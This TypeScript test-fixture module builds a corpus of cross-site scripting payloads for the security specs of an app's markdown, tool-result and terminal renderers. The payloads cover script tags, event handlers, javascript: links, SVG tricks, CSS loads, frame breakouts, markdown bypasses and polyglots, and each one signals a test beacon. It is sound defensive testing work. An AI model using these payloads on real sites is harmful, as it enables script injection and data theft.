/**
 * Hostile payloads for the security specs, written for Covalt's render paths (Streamdown markdown
 * with raw HTML, tool-result renderers, the html artifact sandbox).
 *
 * Every payload that manages to run does three observable things: it sets `window.__xss` to its
 * number, calls `alert(number)` and asks the beacon server for `/x/<number>`. A test then knows
 * which payload ran from the dialog text, the global or the beacon's log, and fails.
 */
export interface XssPayload {
  /** Shown by `alert` and requested from the beacon, so a failure names its payload. */
  id: number;
  /** What the payload tries, for failure messages. */
  vector: string;
  text: string;
}

export type XssChannel = "text" | "markdown" | "terminal";

interface Spec {
  vector: string;
  /** Only where the payload makes sense: markdown syntax means nothing in a JSON viewer. */
  channels?: XssChannel[];
  make: (js: PayloadScripts, id: number) => string;
}

/** The code a payload runs, in the spellings different contexts need. */
export interface PayloadScripts {
  /** Uses single quotes; fine inside a double-quoted attribute or a script element. */
  run: string;
  /** No quotes, no spaces: fits unquoted attributes, markdown link targets and CSS. */
  bare: string;
  /** What an embedded frame would try against its parent. */
  parent: string;
  /** A URL on the beacon, for payloads that try to make the browser send a request. */
  hit: string;
}

function scripts(beacon: string, id: number): PayloadScripts {
  const hit = `${beacon}/x/${id}`;
  return {
    run: `window.__xss=${id};alert(${id});fetch('${hit}')`,
    bare: `window.__xss=${id};alert(${id})`,
    parent: `parent.window.__xss=${id};parent.alert(${id});top.location='${hit}'`,
    hit,
  };
}

const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
const markdownOnly: XssChannel[] = ["markdown"];

const specs: Spec[] = [
  // Script elements.
  { vector: "script element", make: (s) => `<script>${s.run}</script>` },
  { vector: "script, mixed case", make: (s) => `<ScRiPt type="text/javascript">${s.run}</sCrIpT>` },
  { vector: "script with remote src", make: (s) => `<script src="${s.hit}.js"></script>` },
  { vector: "script split by a nested tag", make: (s) => `<scr<script>x</script>ipt>${s.run}</scr</script>ipt>` },
  { vector: "script in a comment trick", make: (s) => `<!--<img src="--><script>${s.run}</script>-->` },
  // Event handlers.
  { vector: "img onerror", make: (s) => `<img src="x:y" onerror="${s.run}">` },
  { vector: "img onerror, mixed case, slashes", make: (s) => `<IMG/SRC=nope/oNeRrOr="${s.run}">` },
  { vector: "body onload", make: (s) => `<body onload="${s.run}">` },
  { vector: "input autofocus onfocus", make: (s) => `<input autofocus onfocus="${s.run}">` },
  { vector: "textarea autofocus onfocus", make: (s) => `<textarea autofocus onfocus="${s.run}"></textarea>` },
  { vector: "details ontoggle", make: (s) => `<details open ontoggle="${s.run}"><summary>d</summary>x</details>` },
  {
    vector: "full-page onmouseover",
    make: (s) => `<div style="position:fixed;inset:0;z-index:99999" onmouseover="${s.run}">hover me</div>`,
  },
  { vector: "video source onerror", make: (s) => `<video><source src="nope" onerror="${s.run}"></video>` },
  { vector: "audio onerror", make: (s) => `<audio src="nope" onerror="${s.run}"></audio>` },
  { vector: "iframe onload", make: (s) => `<iframe onload="${s.run}"></iframe>` },
  { vector: "marquee onstart", make: (s) => `<marquee onstart="${s.run}">m</marquee>` },
  { vector: "anchor onclick with fake href", make: (s) => `<a href="#" onclick="${s.run}">click</a>` },
  { vector: "unquoted handler", make: (s) => `<img src=nope onerror=${s.bare}>` },
  // javascript:, data: and vbscript: in HTML.
  { vector: "html link javascript:", make: (s) => `<a href="javascript:${s.run}">html-js-link</a>` },
  { vector: "html link mixed-case scheme", make: (s) => `<a href="JaVaScRiPt:${s.run}">html-case-link</a>` },
  {
    vector: "html link entity-encoded scheme",
    make: (s) => `<a href="&#106;&#x61;vascript&colon;${s.run}">html-entity-link</a>`,
  },
  { vector: "html link tab in scheme", make: (s) => `<a href="java&#9;script:${s.run}">html-tab-link</a>` },
  {
    vector: "html link data:text/html",
    make: (s) => `<a href="data:text/html;base64,${base64(`<script>${s.run}</script>`)}">html-data-link</a>`,
  },
  { vector: "html link vbscript:", make: (s, id) => `<a href="vbscript:msgbox(${id})">html-vb-link</a>` },
  { vector: "iframe javascript: src", make: (s) => `<iframe src="javascript:${s.run}"></iframe>` },
  {
    vector: "iframe data: src",
    make: (s) => `<iframe src="data:text/html,<script>${s.parent}</script>"></iframe>`,
  },
  { vector: "object javascript: data", make: (s) => `<object data="javascript:${s.run}"></object>` },
  { vector: "embed javascript: src", make: (s) => `<embed src="javascript:${s.run}">` },
  { vector: "img javascript: src", make: (s) => `<img src="javascript:${s.run}">` },
  {
    vector: "form action javascript:",
    make: (s) => `<form action="javascript:${s.run}"><button>form-go</button></form>`,
  },
  {
    vector: "button formaction javascript:",
    make: (s) => `<form><button formaction="javascript:${s.run}">formaction-go</button></form>`,
  },
  {
    vector: "meta refresh to javascript:",
    make: (s) => `<meta http-equiv="refresh" content="0;url=javascript:${s.bare}">`,
  },
  { vector: "meta refresh to the beacon", make: (s) => `<meta http-equiv="refresh" content="0;url=${s.hit}">` },
  { vector: "base href hijack", make: (s) => `<base href="${s.hit}/">` },
  { vector: "anchor ping to the beacon", make: (s) => `<a href="https://example.com/" ping="${s.hit}">ping-link</a>` },
  // SVG.
  { vector: "svg onload", make: (s) => `<svg onload="${s.run}"></svg>` },
  { vector: "svg script", make: (s) => `<svg><script>${s.run}</script></svg>` },
  {
    vector: "svg xlink:href javascript:",
    make: (s) => `<svg><a xlink:href="javascript:${s.run}"><text x="0" y="15">svg-link</text></a></svg>`,
  },
  {
    vector: "svg animate sets href",
    make: (s) =>
      `<svg><a><animate attributeName="href" values="javascript:${s.run}"/><text x="0" y="15">svg-anim</text></a></svg>`,
  },
  {
    vector: "svg set sets href",
    make: (s) =>
      `<svg><a><set attributeName="href" to="javascript:${s.run}"/><text x="0" y="15">svg-set</text></a></svg>`,
  },
  { vector: "svg animate onbegin", make: (s) => `<svg><animate onbegin="${s.run}" attributeName="x" dur="1s"/></svg>` },
  {
    vector: "svg foreignObject with handler",
    make: (s) => `<svg><foreignObject><img src="nope" onerror="${s.run}"></foreignObject></svg>`,
  },
  {
    vector: "svg style element holding markup",
    make: (s) => `<svg><style><img src="nope" onerror="${s.run}"></style></svg>`,
  },
  {
    vector: "math namespace confusion",
    make: (s) =>
      `<math><mtext><table><mglyph><style><img src="nope" onerror="${s.run}"></style></mglyph></table></mtext></math>`,
  },
  {
    vector: "noscript attribute breakout",
    make: (s) => `<noscript><p title="</noscript><img src=nope onerror=${s.bare}>"></p></noscript>`,
  },
  // CSS.
  { vector: "style url(javascript:)", make: (s) => `<div style="background:url('javascript:${s.run}')">css-js</div>` },
  { vector: "style expression()", make: (s) => `<div style="width:expression(${s.bare})">css-expr</div>` },
  { vector: "style element @import", make: (s) => `<style>@import url('${s.hit}.css');</style>` },
  { vector: "style element background to the beacon", make: (s) => `<style>p{background:url('${s.hit}.png')}</style>` },
  {
    vector: "style attribute background to the beacon",
    make: (s) => `<p style="background-image:url(${s.hit}.png)">css-bg</p>`,
  },
  { vector: "link stylesheet to the beacon", make: (s) => `<link rel="stylesheet" href="${s.hit}.css">` },
  // Remote loads that would leak data.
  { vector: "img srcset to the beacon", make: (s) => `<img srcset="${s.hit}.png 1x" alt="srcset">` },
  { vector: "video poster to the beacon", make: (s) => `<video poster="${s.hit}.png"></video>` },
  { vector: "input image to the beacon", make: (s) => `<input type="image" src="${s.hit}.png">` },
  {
    vector: "form posting to the beacon",
    make: (s) => `<form action="${s.hit}" method="post"><input name="q" value="secret"><button>post-go</button></form>`,
  },
  // Frames trying to break out.
  { vector: "iframe srcdoc reaching parent", make: (s) => `<iframe srcdoc="<script>${s.parent}</script>"></iframe>` },
  {
    vector: "iframe srcdoc with handler",
    make: (s) => `<iframe srcdoc="<img src=nope onerror=&quot;${s.parent}&quot;>"></iframe>`,
  },
  { vector: "iframe of the sandbox page", make: () => `<iframe src="/sandbox/artifact"></iframe>` },
  { vector: "iframe of the app itself", make: () => `<iframe src="/" name="app"></iframe>` },
  // Markdown syntax.
  { vector: "md link javascript:", channels: markdownOnly, make: (s) => `[md-js](javascript:${s.run})` },
  { vector: "md link mixed case", channels: markdownOnly, make: (s) => `[md-case](JaVaScRiPt:${s.run})` },
  { vector: "md link entity colon", channels: markdownOnly, make: (s) => `[md-entity](javascript&#58;${s.run})` },
  {
    vector: "md link entity letters",
    channels: markdownOnly,
    make: (s) => `[md-entity2](&#x6A;&#x61;&#x76;&#x61;script:${s.run})`,
  },
  { vector: "md link tab in scheme", channels: markdownOnly, make: (s) => `[md-tab](<java\tscript:${s.run}>)` },
  {
    vector: "md link leading control char",
    channels: markdownOnly,
    make: (s) => `[md-ctrl](<\u0001javascript:${s.run}>)`,
  },
  { vector: "md link escaped colon", channels: markdownOnly, make: (s) => `[md-esc](javascript\\:${s.run})` },
  { vector: "md link percent-encoded colon", channels: markdownOnly, make: (s) => `[md-pct](javascript%3A${s.run})` },
  {
    vector: "md link data:",
    channels: markdownOnly,
    make: (s) => `[md-data](data:text/html;base64,${base64(`<script>${s.run}</script>`)})`,
  },
  { vector: "md link vbscript:", channels: markdownOnly, make: (s, id) => `[md-vb](vbscript:msgbox(${id}))` },
  { vector: "md link file:", channels: markdownOnly, make: () => `[md-file](file:///etc/passwd)` },
  { vector: "md link relative API path", channels: markdownOnly, make: () => `[md-rel](/api/chats)` },
  {
    vector: "md link protocol-relative",
    channels: markdownOnly,
    make: (s) => `[md-proto-rel](${s.hit.replace("http:", "")})`,
  },
  { vector: "md image javascript:", channels: markdownOnly, make: (s) => `![md-img-js](javascript:${s.run})` },
  { vector: "md image to the beacon", channels: markdownOnly, make: (s) => `![md-img-remote](${s.hit}.png)` },
  { vector: "md autolink javascript:", channels: markdownOnly, make: (s) => `<javascript:${s.bare}>` },
  {
    vector: "md reference link javascript:",
    channels: markdownOnly,
    make: (s, id) => `[md-ref][evil${id}]\n\n[evil${id}]: javascript:${s.run}`,
  },
  {
    vector: "md link title breakout",
    channels: markdownOnly,
    make: (s) => `[md-title](https://example.com/ "t\\" onmouseover=\\"${s.bare}")`,
  },
  {
    vector: "md link text holding html",
    channels: markdownOnly,
    make: (s) => `[<img src=nope onerror="${s.run}">](https://example.com/)`,
  },
  {
    vector: "md html inside emphasis",
    channels: markdownOnly,
    make: (s) => `**bold <img src=nope onerror="${s.run}"> text**`,
  },
  {
    vector: "md fenced html code",
    channels: markdownOnly,
    make: (s) => "```html\n<script>" + s.run + '</script>\n<img src=nope onerror="' + s.run + '">\n```',
  },
  {
    vector: "md mermaid click callback",
    channels: markdownOnly,
    make: (s) => `\`\`\`mermaid\ngraph TD\nA-->B\nclick A "javascript:${s.bare}"\n\`\`\``,
  },
  { vector: "md math href", channels: markdownOnly, make: (s) => `$$\\href{javascript:${s.bare}}{math}$$` },
  {
    vector: "md table cell with html",
    channels: markdownOnly,
    make: (s) => `| a | b |\n|---|---|\n| <img src=nope onerror="${s.run}"> | [t](javascript:${s.run}) |`,
  },
  // Templates and polyglots.
  {
    vector: "template expression",
    make: (s) => `{{constructor.constructor('${s.bare}')()}} \${${s.bare}} <%= ${s.bare} %>`,
  },
  {
    vector: "context-closing polyglot",
    make: (s) => `'"--></style></textarea></title></script></noscript><svg/onload="${s.run}">`,
  },
  {
    vector: "url and markup polyglot",
    make: (s) => `javascript:/*</title></style>"'--><img src=nope onerror="${s.run}">*/${s.bare}//`,
  },
  // Terminal escape sequences.
  {
    vector: "OSC 8 hyperlink to javascript:",
    channels: ["terminal"],
    make: (s) => `\u001b]8;;javascript:${s.run}\u001b\\osc-link\u001b]8;;\u001b\\`,
  },
  {
    vector: "SGR with markup around it",
    channels: ["terminal"],
    make: (s) =>
      `\u001b[31m<img src=nope onerror="${s.run}">\u001b[0m \u001b[38;2;1;2;3m<script>${s.run}</script>\u001b[0m`,
  },
  { vector: "title-setting OSC", channels: ["terminal"], make: (s) => `\u001b]0;<script>${s.run}</script>\u0007after` },
];

/**
 * The corpus for one channel, numbered from `firstId`. `text` is for renderers that show results as
 * text (code, json, table, default): the HTML payloads. Markdown gets those (Streamdown renders raw
 * HTML) plus the markdown-only ones; terminal output gets them plus escape sequences.
 */
export function xssCorpus(beacon: string, channel: XssChannel, firstId = 100): XssPayload[] {
  const chosen = specs.filter((spec) => (spec.channels ?? ["text", "markdown", "terminal"]).includes(channel));
  return chosen.map((spec, index) => {
    const id = firstId + index;
    return { id, vector: spec.vector, text: spec.make(scripts(beacon, id), id) };
  });
}

/** The payloads as one document: blank lines between them, so each is its own markdown block. */
export function joinPayloads(payloads: XssPayload[]): string {
  return payloads.map((payload) => payload.text).join("\n\n");
}

export function describePayload(payloads: XssPayload[], id: number | string): string {
  const payload = payloads.find((candidate) => candidate.id === Number(id));
  return payload === undefined ? `unknown payload ${id}` : `#${payload.id} ${payload.vector}: ${payload.text}`;
}
